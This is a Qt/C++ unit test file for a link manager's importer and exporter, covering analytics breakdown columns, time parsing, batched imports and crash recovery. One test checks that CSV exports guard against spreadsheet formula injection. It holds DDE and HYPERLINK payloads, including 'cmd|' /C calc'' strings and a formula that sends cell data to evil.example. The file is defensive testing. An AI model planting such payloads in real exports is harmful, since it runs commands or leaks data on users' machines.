        const QDateTime from(QDate(2020, 1, 1), QTime(0, 0), QTimeZone::utc());
        const QDateTime to(QDate(2100, 1, 1), QTime(0, 0), QTimeZone::utc());
        const qint64 account = added->id;
        const QString id = kept.remoteId;
        QVERIFY(stats.storeShares(account, id, ProviderStats::breakdownKey(u"country"_s, from, to),
                                  {{u"FR"_s, 4}, {u"DE"_s, 9}}));
        QVERIFY(
            stats.storeShares(account, id, ProviderStats::breakdownKey(u"referrer"_s, from, to), {{QString(), 13}}));
        QVERIFY(stats.storeShares(account, id, ProviderStats::breakdownKey(u"device"_s, from.addYears(1), to),
                                  {{u"mobile"_s, 2}}));
        // 4abc's for a period that ended before it was fetched: not its whole life either.
        QVERIFY(stats.storeShares(account, remote.remoteId,
                                  ProviderStats::breakdownKey(u"country"_s, from, from.addYears(1)), {{u"IT"_s, 1}}));
    }
    const auto idOf = [&](const QString &slug) { return link(slug)->id; };

    // Two hours years apart (whatever today is): 150 + 25 people's clicks and 7 bots'.
    const QSqlDatabase db = m_backend->database().connection();
    const qint64 early = QDateTime(QDate(2020, 2, 29), QTime(23, 0), QTimeZone::utc()).toSecsSinceEpoch();
    const qint64 late = QDateTime(QDate(2026, 11, 1), QTime(0, 0), QTimeZone::utc()).toSecsSinceEpoch();
    QVERIFY(Rollups::addHour(db, idOf(u"clicked"_s), early, 150, 7,
                             {{u"country"_s, u"DE"_s, 120},
                              {u"country"_s, u"US"_s, 30},
                              {u"bot:country"_s, u"DE"_s, 7},
                              {u"referrer"_s, u"t.co"_s, 100},
                              {u"referrer"_s, QString(), 50},
                              {u"bot:referrer"_s, u"crawler.example"_s, 7},
                              {u"device"_s, u"desktop"_s, 90},
                              {u"device"_s, u"mobile"_s, 60},
                              {u"browser"_s, u"Chrome"_s, 150},
                              {u"os"_s, u"Windows"_s, 150}}));
    QVERIFY(Rollups::addHour(db, idOf(u"clicked"_s), late, 25, 0,
                             {{u"country"_s, u"US"_s, 20},
                              {u"country"_s, QString(), 5},
                              {u"referrer"_s, u"t.co"_s, 25},
                              {u"device"_s, u"mobile"_s, 25},
                              {u"browser"_s, u"Firefox"_s, 25},
                              {u"os"_s, u"Android"_s, 25}}));
    QVERIFY(Rollups::addHour(db, idOf(u"guard"_s), late, 3, 0, {{u"referrer"_s, u"=cmd|x"_s, 3}}));

    LinkQuery all;
    all.order = Qt::AscendingOrder;
    const QString path = m_dir->filePath(u"breakdowns."_s + suffix);
    ExportOptions with;
    with.breakdowns = true;
    const Result<ExportResult> written =
        Exporter::write(m_backend->database(), m_backend->links(), all, exportFormat, path, with);
    QVERIFY2(written, written ? "" : qPrintable(written.error().message));
    QCOMPARE(written->written, 5);
    QCOMPARE(written->withoutBreakdowns, 1);   // 4abc
    QCOMPARE(written->fromServices, 1);        // 4kept
    QVERIFY2(written->note().startsWith(u"1 link(s) from Bitly, Shlink or another service have empty countries"_s)
                 && written->note().contains(u"no browsers or operating systems: those columns are empty for 1 "_s),
             qPrintable(written->note()));

    const QStringList names = Exporter::breakdownColumns();
    QCOMPARE(names, (QStringList{u"countries"_s, u"referrers"_s, u"devices"_s, u"browsers"_s, u"operating_systems"_s}));
    const QStringList clicked{u"DE 120; US 50; (unknown) 5"_s, u"t.co 125; (direct) 50"_s, u"desktop 90; mobile 85"_s,
                              u"Chrome 150; Firefox 25"_s, u"Windows 150; Android 25"_s};
    if (exportFormat == ExportFormat::Json) {
        const QJsonArray rows = QJsonDocument::fromJson(readFile(path)).object().value(u"links"_s).toArray();
        QCOMPARE(rows.size(), 5);
        QHash<QString, QJsonValue> bySlug;
        for (const QJsonValue &row : rows)
            bySlug.insert(row[u"slug"_s].toString(), row[u"breakdowns"_s]);
        const QJsonObject b = bySlug.value(u"clicked"_s).toObject();
        QCOMPARE(b.keys(),
                 (QStringList{u"browsers"_s, u"countries"_s, u"devices"_s, u"operating_systems"_s, u"referrers"_s}));
        QCOMPARE(b[u"countries"_s].toObject(), (QJsonObject{{u"DE"_s, 120}, {u"US"_s, 50}, {u"(unknown)"_s, 5}}));
        QCOMPARE(b[u"referrers"_s].toObject(), (QJsonObject{{u"t.co"_s, 125}, {u"(direct)"_s, 50}}));
        QCOMPARE(b[u"devices"_s].toObject(), (QJsonObject{{u"desktop"_s, 90}, {u"mobile"_s, 85}}));
        QCOMPARE(b[u"browsers"_s].toObject(), (QJsonObject{{u"Chrome"_s, 150}, {u"Firefox"_s, 25}}));
        QCOMPARE(b[u"operating_systems"_s].toObject(), (QJsonObject{{u"Windows"_s, 150}, {u"Android"_s, 25}}));
        const QJsonObject quiet = bySlug.value(u"quiet"_s).toObject();
        QCOMPARE(quiet.size(), 5);
        QVERIFY(quiet[u"countries"_s].toObject().isEmpty());
        QCOMPARE(bySlug.value(u"guard"_s)[u"referrers"_s].toObject(), (QJsonObject{{u"=cmd|x"_s, 3}}));
        QVERIFY(bySlug.value(u"4abc"_s).isNull());
        // Read back as one column, not one per country and referrer.
        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        TableReader reader(&file);
        QVERIFY(reader.open());
        QCOMPARE(reader.header().filter(u"breakdowns"_s), QStringList{u"breakdowns"_s});
        const QJsonObject fromBitly = bySlug.value(u"4kept"_s).toObject();
        QCOMPARE(fromBitly[u"countries"_s].toObject(), (QJsonObject{{u"DE"_s, 9}, {u"FR"_s, 4}}));
        QCOMPARE(fromBitly[u"referrers"_s].toObject(), (QJsonObject{{u"(direct)"_s, 13}}));
        QVERIFY(fromBitly[u"devices"_s].toObject().isEmpty());
    } else {
        // As a spreadsheet reads it: the five columns after Linkdeck's own.
        QFile file(path);
        QVERIFY(file.open(QIODevice::ReadOnly));
        TableReader reader(&file);
        QVERIFY(reader.open());
        QCOMPARE(reader.header(), Exporter::columns() + names);
        const int first = int(Exporter::columns().size());
        const int slug = int(Exporter::columns().indexOf(u"slug"_s));
        QHash<QString, QStringList> bySlug;
        QStringList fields;
        while (reader.next(&fields)) {
            while (fields.size() < reader.header().size())
                fields << QString();   // a workbook's row ends at its last cell
            bySlug.insert(fields.at(slug), fields.mid(first));
        }
        QCOMPARE(bySlug.size(), 5);
        QCOMPARE(bySlug.value(u"clicked"_s), clicked);
        QCOMPARE(bySlug.value(u"quiet"_s), QStringList(5, QString()));
        QCOMPARE(bySlug.value(u"4abc"_s), QStringList(5, QString()));
        QCOMPARE(bySlug.value(u"4kept"_s),
                 (QStringList{u"DE 9; FR 4"_s, u"(direct) 13"_s, QString(), QString(), QString()}));
        QCOMPARE(bySlug.value(u"guard"_s).at(1), u"=cmd|x 3"_s);
        if (exportFormat == ExportFormat::Csv) {
            // Through the formula guard like every other cell.
            QVERIFY(readFile(path).contains(",'=cmd|x 3,"));
        }
    }

    // Without the option: the file as it was before, byte for byte (CSV, JSON).
    const QString plainPath = m_dir->filePath(u"plain."_s + suffix);
    const Result<ExportResult> plain =
        Exporter::write(m_backend->database(), m_backend->links(), all, exportFormat, plainPath, ExportOptions{});
    QVERIFY(plain);
    QCOMPARE(plain->withoutBreakdowns, 0);
    QVERIFY(plain->note().isEmpty());
    const QString oldPath = m_dir->filePath(u"old."_s + suffix);
    QCOMPARE(*Exporter::write(m_backend->links(), all, exportFormat, oldPath), 5);
    if (exportFormat != ExportFormat::Xlsx) {
        QCOMPARE(QString::fromUtf8(readFile(plainPath)), QString::fromUtf8(readFile(oldPath)));
        QVERIFY(!readFile(plainPath).contains("countries"));
        QVERIFY(!readFile(plainPath).contains("breakdowns"));
    } else {
        QFile file(plainPath);
        QVERIFY(file.open(QIODevice::ReadOnly));
        TableReader reader(&file);
        QVERIFY(reader.open());
        QCOMPARE(reader.header(), Exporter::columns());
    }

    // This computer's links with their breakdowns import back: already there, nothing else.
    LinkQuery local = all;
    local.accountId = AccountRepository::LocalAccountId;
    const QString localPath = m_dir->filePath(u"local."_s + suffix);
    const Result<ExportResult> localWritten =
        Exporter::write(m_backend->database(), m_backend->links(), local, exportFormat, localPath, with);
    QVERIFY(localWritten);
    QCOMPARE(localWritten->written, 3);
    QCOMPARE(localWritten->withoutBreakdowns, 0);
    const qint64 before = count();
    const ImportReport again = import(readFile(localPath));
    QVERIFY2(!again.fileError && !again.hasProblems(), qPrintable(again.summary()));
    QCOMPARE(again.existed, 3);
    QCOMPARE(again.total(), 3);
    QCOMPARE(count(), before);
    QCOMPARE(link(u"clicked"_s)->title, QString());
    QVERIFY(link(u"clicked"_s)->tags.isEmpty());
}

// OWASP's CSV injection: no cell of an exported CSV starts with = + - @, a tab or a carriage
// return (a spreadsheet would run it); such a cell gets a leading apostrophe, plain numbers
// stay numbers, and the file imports back with every title and tag as it was.
void TestImporter::csvExportGuardsFormulas()
{
    const QStringList titles{u"=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"_s,
                             u"+1+1"_s,
                             u"-2+3+cmd|' /C calc'!A0"_s,
                             u"@SUM(1+1)*cmd|' /C calc'!A0"_s,
                             u"\tTab first"_s,
                             u"'=already an apostrophe"_s,
                             u"''+two"_s,
                             u"'plain quote"_s,
                             u"-12"_s,
                             u"Spring sale = 20% off"_s};
    QList<Link> links;
    for (int i = 0; i < titles.size(); ++i) {
        Link l;
        l.accountId = 1;
        l.domain = domain();
        l.slug = u"f%1"_s.arg(i);
        l.shortUrl = LocalProvider::shortUrlFor(l.domain, l.slug);
        l.destination = u"https://shop.example/f/%1"_s.arg(i);
        l.title = titles.at(i);
        l.tags = {u"=1+2"_s, u"ok"_s};
        links << l;
    }
    QVERIFY(m_backend->links().insertMany(links));
    LinkQuery all;
    all.order = Qt::AscendingOrder;
    const QString path = m_dir->filePath(u"formulas.csv"_s);
    QCOMPARE(*Exporter::write(m_backend->links(), all, ExportFormat::Csv, path), qint64(titles.size()));

    // Every cell as a spreadsheet reads it (RFC 4180), the apostrophe kept.
    const QString text = QString::fromUtf8(readFile(path)).mid(1);   // after the BOM
    QStringList cells;
    QString cell;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"') {
                cell += c;
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                cell += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',' || c == u'\n') {
            if (c == u'\n' && cell.endsWith(u'\r'))
                cell.chop(1);
            cells << cell;
            cell.clear();
        } else {
            cell += c;
        }
    }
    int guardedCells = 0;
    for (const QString &c : std::as_const(cells)) {
        const QChar first = c.isEmpty() ? QChar() : c.front();
        const bool formulaStart = first == u'=' || first == u'+' || first == u'@' || first == u'\t' || first == u'\r'
            || (first == u'-' && c != u"-12"_s);
        QVERIFY2(!formulaStart, qPrintable(c));
        guardedCells += c.startsWith(u'\'');
    }
    QVERIFY(cells.contains(u"'=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")"_s));
    QVERIFY(cells.contains(u"'-2+3+cmd|' /C calc'!A0"_s));
    QVERIFY(cells.contains(u"'\tTab first"_s));
    QVERIFY(cells.contains(u"'''+two"_s));
    QVERIFY(cells.contains(u"'=1+2, ok"_s));      // the tags cell
    QVERIFY(cells.contains(u"'plain quote"_s));   // no formula: as it is
    QVERIFY(cells.contains(u"-12"_s));            // a number stays a number
    QVERIFY(cells.contains(u"Spring sale = 20% off"_s));
    // Seven guarded titles, every tags cell, and "'plain quote" as it was.
    QCOMPARE(guardedCells, 7 + titles.size() + 1);

    // Imported back: every title and tag as it was.
    QTemporaryDir otherDir;
    Backend other;
    QVERIFY(other.open(otherDir.filePath(u"links.sqlite"_s)));
    const ImportReport report = import(readFile(path), {}, &other);
    QCOMPARE(report.created, qint64(titles.size()));
    for (int i = 0; i < titles.size(); ++i) {
        const auto back = link(u"f%1"_s.arg(i), &other);
        QVERIFY(back);
        QCOMPARE(back->title, titles.at(i).trimmed());   // an import trims every cell, as it always did
        QCOMPARE(back->tags, (QStringList{u"=1+2"_s, u"ok"_s}));
    }
    // The rule itself: unguarded() undoes guarded().
    for (const QString &t : titles + QStringList{u""_s, u"'"_s, u"''"_s, u"+"_s, u"'-"_s, u"1,5"_s, u"-1."_s})
        QCOMPARE(Csv::unguarded(Csv::guarded(t)), t);
}

void TestImporter::parseTimes()
{
    const QDateTime utc(QDate(2026, 12, 31), QTime(23, 59), QTimeZone::utc());
    QCOMPARE(*Importer::parseTime(u"2026-12-31T23:59:00Z"_s, false), utc);
    QCOMPARE(*Importer::parseTime(u"2026-12-31T23:59:00+0000"_s, false), utc);
    QCOMPARE(*Importer::parseTime(u"2027-01-01T00:59:00+01:00"_s, false), utc);
    QCOMPARE(*Importer::parseTime(u"1798761540"_s, false), utc);
    QCOMPARE(*Importer::parseTime(u"1798761540000"_s, false), utc);
    // Without a zone: local time, as a person typed it.
    QCOMPARE(*Importer::parseTime(u"31.12.2026 23:59"_s, false), QDateTime(QDate(2026, 12, 31), QTime(23, 59)).toUTC());
    QCOMPARE(*Importer::parseTime(u"2026-12-31 23:59"_s, false), QDateTime(QDate(2026, 12, 31), QTime(23, 59)).toUTC());
    QCOMPARE(*Importer::parseTime(u"2026-12-31"_s, true), QDate(2027, 1, 1).startOfDay().toUTC());
    QCOMPARE(*Importer::parseTime(u"31.12.2026"_s, false), QDate(2026, 12, 31).startOfDay().toUTC());
    // Excel's date cells: days since 1899-12-30, local.
    QCOMPARE(*Importer::parseTime(u"46387"_s, true), QDate(2027, 1, 1).startOfDay().toUTC());
    QCOMPARE(*Importer::parseTime(u"46387.5"_s, false), QDateTime(QDate(2026, 12, 31), QTime(12, 0)).toUTC());
    QVERIFY(!Importer::parseTime(u"soon"_s, false));
    QVERIFY(!Importer::parseTime(u"2026-13-01"_s, false));
}

// An import writes its rows with one INSERT per batch (LinkRepository::insertMany): the search
// index, tags, the server's change log and links_version end exactly as one insert per link
// leaves them, and a trigram of a destination or a title finds the link right after the import.
void TestImporter::importedLinksAreSearchable()
{
    QByteArray csv = "slug,destination,title,tags\r\n";
    for (int i = 0; i < 60; ++i)
        csv +=
            u"p%1,https://shop.example/widget-%2?utm_campaign=fall-%3,\"Gadget no. %2, fall flyer\",\"tag%4, print\"\r\n"_s
                .arg(i)
                .arg(i, 4, 10, QChar(u'0'))
                .arg(i % 3)
                .arg(i % 5)
                .toUtf8();
    ImportOptions options;
    options.batchSize = 25;   // three batches, each written at once
    const ImportReport report = import(csv, options);
    QCOMPARE(report.created, 60);

    QCOMPARE(slugsFound(*m_backend, u"widget-0017"_s), QStringList{u"p17"_s});       // destination
    QCOMPARE(slugsFound(*m_backend, u"GADGET NO. 0042"_s), QStringList{u"p42"_s});   // title, any case
    QCOMPARE(slugsFound(*m_backend, u"fall-2"_s).size(), 20);                        // campaign
    QCOMPARE(slugsFound(*m_backend, u"tag3"_s).size(), 12);                          // tags
    QCOMPARE(column(*m_backend, u"SELECT rowid FROM links_fts WHERE links_fts MATCH '\"et-0059\"'"_s),
             QStringList{QString::number(link(u"p59"_s)->id)});
    QCOMPARE(link(u"p7"_s)->tags, (QStringList{u"tag2"_s, u"print"_s}));
    QCOMPARE(searchIndexProblem(*m_backend), QString());

    // The same links inserted one by one, as the link dialog does.
    QTemporaryDir other;
    Backend oneByOne;
    QVERIFY(oneByOne.open(other.filePath(u"one.sqlite"_s)));
    for (int i = 0; i < 60; ++i) {
        Link l = *link(u"p%1"_s.arg(i));
        l.id = 0;
        QVERIFY(oneByOne.links().insert(l).ok());
    }
    for (const QString &text : {u"widget-001"_s, u"Gadget"_s, u"fall-1"_s, u"print"_s, u"p4"_s})
        QCOMPARE(slugsFound(*m_backend, text), slugsFound(oneByOne, text));
    const QString tagsSql = uR"(SELECT l.slug || ':' || group_concat(t.name, '|') FROM links AS l
        JOIN link_tags AS lt ON lt.link_id = l.id JOIN tags AS t ON t.id = lt.tag_id GROUP BY l.id ORDER BY l.slug)"_s;
    QCOMPARE(column(*m_backend, tagsSql), column(oneByOne, tagsSql));
    QCOMPARE(column(*m_backend, tagsSql).size(), 60);
    for (const QString &sql :
         {u"SELECT count(*) FROM link_changes"_s, u"SELECT value FROM meta WHERE key = 'links_version'"_s,
          u"SELECT group_concat(name, '|') FROM (SELECT name FROM tags ORDER BY name)"_s})
        QCOMPARE(column(*m_backend, sql), column(oneByOne, sql));
    QCOMPARE(searchIndexProblem(oneByOne), QString());
}

// A crash while a batch is written, just before its commit: the database as the disk has it
// then (the file and its write-ahead log, with the batch's pages spilled into it) opens with
// the links before the batch, the search index matching them and every trigger in place; the
// batch itself is refused as a whole, and written again it is found by the search.
void TestImporter::crashBeforeCommitLeavesConsistentDatabase()
{
    QByteArray csv = "slug,destination,title\r\n";
    for (int i = 0; i < 30; ++i)
        csv += u"k%1,https://shop.example/kept-%1,Kept %1\r\n"_s.arg(i).toUtf8();
    QCOMPARE(import(csv).created, 30);
    const QStringList triggersBefore = triggers(*m_backend);
    QVERIFY(triggersBefore.join(u'\n').contains(u"links_fts_insert"_s));

    QList<Link> batch;
    for (int i = 0; i < 3000; ++i) {
        Link l;
        l.accountId = AccountRepository::LocalAccountId;
        l.domain = domain();
        l.slug = u"c%1"_s.arg(i);
        l.shortUrl = u"http://"_s + domain() + u"/c%1"_s.arg(i);
        l.destination = u"https://shop.example/crashed-%1"_s.arg(i);
        l.title = u"Crashed %1"_s.arg(i);
        l.tags = {u"crash"_s};
        batch << l;
    }
    sqlite3 *db = sqliteHandle(m_backend->database().connection());
    QSqlQuery(m_backend->database().connection()).exec(u"PRAGMA cache_size = 20"_s);   // the batch spills to the log
    const QString path = m_dir->filePath(u"links.sqlite"_s);
    const QString crashed = m_dir->filePath(u"crashed.sqlite"_s);
    const qint64 logBefore = QFileInfo(path + u"-wal"_s).size();
    struct Crash
    {
        QString from, to;
        qint64 logSize = -1;
    } crash{path, crashed};
    sqlite3_commit_hook(
        db,
        [](void *arg) {
            auto *c = static_cast<Crash *>(arg);
            QFile::copy(c->from, c->to);
            QFile::copy(c->from + u"-wal"_s, c->to + u"-wal"_s);
            c->logSize = QFileInfo(c->to + u"-wal"_s).size();
            return 1;   // the commit becomes a rollback
        },
        &crash);
    QVERIFY(!m_backend->links().insertMany(batch));
    sqlite3_commit_hook(db, nullptr, nullptr);
    QVERIFY2(crash.logSize > logBefore, "the crash copy has no part of the batch");

    // The database as a crash leaves it.
    {
        Backend afterCrash;
        QVERIFY(afterCrash.open(crashed));
        QCOMPARE(afterCrash.links().totalCount(), 30);
        QCOMPARE(searchIndexProblem(afterCrash), QString());
        QCOMPARE(triggers(afterCrash), triggersBefore);
        QCOMPARE(slugsFound(afterCrash, u"crashed-"_s), QStringList());
        QCOMPARE(slugsFound(afterCrash, u"kept-12"_s), QStringList{u"k12"_s});
    }
    // The running one, rolled back, goes on.
    QCOMPARE(count(), 30);
    QCOMPARE(searchIndexProblem(*m_backend), QString());
    QCOMPARE(triggers(*m_backend), triggersBefore);
    QCOMPARE(m_backend->links().insertMany(batch).value(), 3000);
    QCOMPARE(slugsFound(*m_backend, u"crashed-2999"_s), QStringList{u"c2999"_s});
    QCOMPARE(slugsFound(*m_backend, u"crashed-"_s).size(), 1000);   // fetch's limit
    QCOMPARE(searchIndexProblem(*m_backend), QString());
}

QTEST_GUILESS_MAIN(TestImporter)
#include "tst_importer.moc"
